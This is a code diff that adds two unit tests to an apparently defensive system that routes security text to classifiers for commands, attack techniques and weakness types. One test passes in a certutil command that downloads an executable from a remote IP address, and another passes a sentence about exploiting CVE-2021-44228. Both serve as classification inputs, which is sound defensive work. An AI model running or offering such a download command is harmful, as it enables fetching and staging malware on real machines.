@@ -43,6 +43,23 @@ def test_a_text_nobody_knows_is_sent_to_nobody(backbone: Backbone) -> None:
     assert "unlike anything" in found.record()["why"]
 
 
+def test_a_command_is_asked_about_its_intent_and_its_technique(backbone: Backbone) -> None:
+    floor = ExpertFloor(backbone)
+    for name in ("command", "technique", "cwe"):
+        floor.plug(drawn(backbone, name, limit=1e9))
+    (found,) = consult(floor, ["certutil.exe -urlcache -f http://203.0.113.9/a a.exe"])
+    assert found.route.names == ("command", "technique")
+
+
+def test_a_report_that_names_a_cve_is_asked_of_those_who_know_reports_too(backbone: Backbone) -> None:
+    floor = ExpertFloor(backbone)
+    for name, limit in (("cwe", 1e9), ("technique", -1e9), ("command", 1e9)):
+        floor.plug(drawn(backbone, name, limit=limit))
+    (found,) = consult(floor, ["The group exploited CVE-2021-44228 to run a shell on the portal."])
+    assert found.route.names == ("cwe", "technique")
+    assert "cve" in found.route.why and "evidence" in found.route.why
+
+
 def test_without_experts_the_council_abstains(backbone: Backbone) -> None:
     assert consult(ExpertFloor(backbone), ["x"])[0].record()["abstained"] is True
 
